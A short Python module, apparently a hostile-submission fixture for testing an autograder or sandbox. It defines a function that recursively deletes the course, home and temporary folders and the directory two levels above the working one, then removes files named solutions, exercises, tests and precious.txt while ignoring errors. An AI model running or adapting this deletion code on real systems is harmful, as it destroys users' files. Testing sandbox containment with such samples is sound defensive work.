"""Deletes the course, the home folder and the temporary one."""

import os
import shutil


def hostile(*arguments, **options):
    for place in (COURSE, HOME, TEMPORARY, os.path.dirname(os.path.dirname(os.getcwd()))):
        shutil.rmtree(place, ignore_errors=True)
        for name in ("solutions", "exercises", "tests", "precious.txt"):
            try:
                path = os.path.join(place, name)
                os.rename(path, path + "-gone")
                os.unlink(path + "-gone")
            except OSError:
                continue
    return 0
